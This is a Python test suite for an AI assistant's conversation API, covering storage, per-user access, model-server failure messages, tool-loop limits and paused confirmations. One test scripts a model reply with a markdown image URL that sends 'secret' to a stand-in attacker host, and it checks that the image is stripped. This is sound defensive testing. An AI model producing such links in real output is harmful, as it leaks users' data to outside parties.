"""
The assistant's conversations over the JSON API, with the scripted
model: creating, listing, resuming and deleting conversations, streamed
answers put together, the system prompt, and what the user sees when
the model server is down or lacks the model (and /ready says degraded).
"""

from __future__ import annotations

import pytest
import pytest_twisted

from gk.assistant.conversations import AssistantService
from tests.assistant.conftest import ALICE, BOB, AssistantServer, dns_server, ollama
from tests.assistant.scripted_ollama import Reply

__all__ = ["dns_server", "ollama"]


@pytest.fixture
def database_url(sqlite_url: str) -> str:
    """SQLite only: the loop's storage runs on PostgreSQL in tests/storage."""
    return sqlite_url


async def _conversation(server: AssistantServer, email: str = ALICE) -> str:
    created = await server.api("POST", "/api/assistant/conversations", {}, email)
    assert created.status == 201
    return str(created.body["id"])


@pytest_twisted.ensureDeferred
async def test_a_streamed_answer_is_one_text_event_and_the_conversation_is_kept(
    gk_server: AssistantServer,
) -> None:
    gk_server.ollama.script(Reply(["Bon", "jour ", "Alice", " !"], thinking="greet her"))
    conversation = await _conversation(gk_server)

    answer = await gk_server.api(
        "POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "Salut"}
    )

    assert answer.status == 200
    assert answer.body == {"events": [{"type": "text", "text": "Bonjour Alice !"}], "state": "done"}
    sent = gk_server.ollama.requests[0]
    assert sent["model"] == "qwen3:8b" and sent["stream"] is True
    system = sent["messages"][0]
    assert system["role"] == "system"
    assert "alice@example.test" in system["content"]
    assert "Europe/Paris" in system["content"]
    assert sent["messages"][1] == {"role": "user", "content": "Salut"}
    assert {t["function"]["name"] for t in sent["tools"]} == set(gk_server.tools.names())

    listed = await gk_server.api("GET", "/api/assistant/conversations")
    assert [c["id"] for c in listed.body["conversations"]] == [conversation]
    assert listed.body["conversations"][0]["title"] == "Salut"
    resumed = await gk_server.api("GET", f"/api/assistant/conversations/{conversation}")
    assert resumed.body["events"] == [
        {"type": "user", "text": "Salut"},
        {"type": "text", "text": "Bonjour Alice !"},
    ]

    # The next turn carries the history, thinking included.
    gk_server.ollama.script(Reply.text("Rien de neuf."))
    await gk_server.api(
        "POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "Quoi de neuf ?"}
    )
    history = gk_server.ollama.requests[1]["messages"]
    assert [m["role"] for m in history] == ["system", "user", "assistant", "user"]
    assert history[2]["content"] == "Bonjour Alice !"
    assert history[2]["thinking"] == "greet her"


@pytest_twisted.ensureDeferred
async def test_conversations_belong_to_their_user(gk_server: AssistantServer) -> None:
    conversation = await _conversation(gk_server, ALICE)

    for method, path, body in (
        ("GET", f"/api/assistant/conversations/{conversation}", None),
        ("POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "hi"}),
        ("DELETE", f"/api/assistant/conversations/{conversation}", None),
    ):
        answer = await gk_server.api(method, path, body, BOB)
        assert answer.status == 404, (method, path)
        assert answer.body["error"]["code"] == "no_such_conversation"
    assert (await gk_server.api("GET", "/api/assistant/conversations", None, BOB)).body == {
        "conversations": []
    }
    assert gk_server.ollama.requests == []
    unauthenticated = await gk_server.api("GET", "/api/assistant/conversations", None, None)
    assert unauthenticated.status == 401

    deleted = await gk_server.api("DELETE", f"/api/assistant/conversations/{conversation}")
    assert deleted.status == 200
    gone = await gk_server.api("GET", f"/api/assistant/conversations/{conversation}")
    assert gone.status == 404


@pytest_twisted.ensureDeferred
async def test_bad_requests_get_one_clear_error(gk_server: AssistantServer) -> None:
    conversation = await _conversation(gk_server)
    path = f"/api/assistant/conversations/{conversation}/messages"

    empty = await gk_server.api("POST", path, {"text": "   "})
    missing = await gk_server.api("POST", path, {})
    confirmation = await gk_server.api(
        "POST", "/api/assistant/confirmations/0123456789abcdef", {"approve": True}
    )

    assert (empty.status, empty.body["error"]["code"]) == (400, "assistant_error")
    assert (missing.status, missing.body["error"]["code"]) == (400, "invalid_argument")
    assert (confirmation.status, confirmation.body["error"]["code"]) == (
        404,
        "no_such_confirmation",
    )


@pytest_twisted.ensureDeferred
async def test_a_missing_model_is_explained_and_ready_says_degraded(
    gk_server: AssistantServer,
) -> None:
    gk_server.ollama.models.clear()
    conversation = await _conversation(gk_server)

    answer = await gk_server.api(
        "POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "hello"}
    )
    ready = await gk_server.api("GET", "/ready", None, None)

    assert answer.status == 200
    [event] = answer.body["events"]
    assert event["type"] == "error"
    assert "qwen3:8b" in event["message"] and "ollama pull" in event["message"]
    assert ready.status == 200
    assert ready.body["ready"] is True
    assert ready.body["degraded"] == ["assistant"]
    assert "not installed" in ready.body["assistant"]["problem"]


@pytest_twisted.ensureDeferred
async def test_an_unreachable_model_server_leaves_the_rest_of_gk_working(
    gk_server: AssistantServer,
) -> None:
    await gk_server.ollama.stop()
    conversation = await _conversation(gk_server)

    answer = await gk_server.api(
        "POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "hello"}
    )
    ready = await gk_server.api("GET", "/ready", None, None)
    rooms = await gk_server.api("GET", "/api/chat/rooms")

    [event] = answer.body["events"]
    assert event["type"] == "error" and "cannot reach the model server" in event["message"]
    assert ready.body["ready"] is True and ready.body["assistant"]["ok"] is False
    assert rooms.status == 200


@pytest_twisted.ensureDeferred
async def test_images_in_answers_are_never_embedded(gk_server: AssistantServer) -> None:
    gk_server.ollama.script(
        Reply.text('See ![chart](https://evil.example/p.png?d=secret) and <img src="https://x/y">')
    )
    conversation = await _conversation(gk_server)

    answer = await gk_server.api(
        "POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "chart?"}
    )

    [event] = answer.body["events"]
    assert "evil.example" not in event["text"] and "<img" not in event["text"]
    assert event["text"] == "See [image: chart] and [image]"


@pytest_twisted.ensureDeferred
async def test_a_model_that_never_stops_calling_tools_is_cut_short(
    gk_server: AssistantServer,
) -> None:
    steps = gk_server.app.config.assistant.max_steps
    gk_server.ollama.script(*[Reply.call("list_folders") for _ in range(steps + 1)])
    conversation = await _conversation(gk_server)

    answer = await gk_server.api(
        "POST", f"/api/assistant/conversations/{conversation}/messages", {"text": "loop"}
    )

    events = answer.body["events"]
    assert [e["type"] for e in events].count("tool_result") == steps
    assert events[-1]["type"] == "error" and f"after {steps} steps" in events[-1]["message"]
    assert len(gk_server.ollama.requests) == steps
    assert answer.body["state"] == "done"


@pytest_twisted.ensureDeferred
async def test_a_paused_turn_survives_a_restart(gk_server: AssistantServer) -> None:
    conversation = await _conversation(gk_server, BOB)
    gk_server.ollama.script(
        Reply.call("send_email", to=[ALICE], subject="After restart", body="Still here."),
        Reply.text("Sent."),
    )
    paused = await gk_server.api(
        "POST",
        f"/api/assistant/conversations/{conversation}/messages",
        {"text": "mail alice"},
        BOB,
    )
    [card] = [e for e in paused.body["events"] if e["type"] == "confirm"]

    # A new service over the same database: what a restarted process has.
    old = gk_server.tree.assistant
    restarted = AssistantService(
        old.db, old.events, old.tools, old.model, old.timezone, old.max_steps
    )
    turn = await restarted.confirm(gk_server.accounts[BOB], card["confirmation_id"], True)

    assert turn.state == "done"
    assert [e["type"] for e in turn.events] == ["tool_result", "text"]
    assert turn.events[0]["is_error"] is False
    listed = await gk_server.call("list_emails", {}, ALICE)
    assert listed.content is not None
    assert [m["subject"] for m in listed.content["emails"]] == ["After restart"]
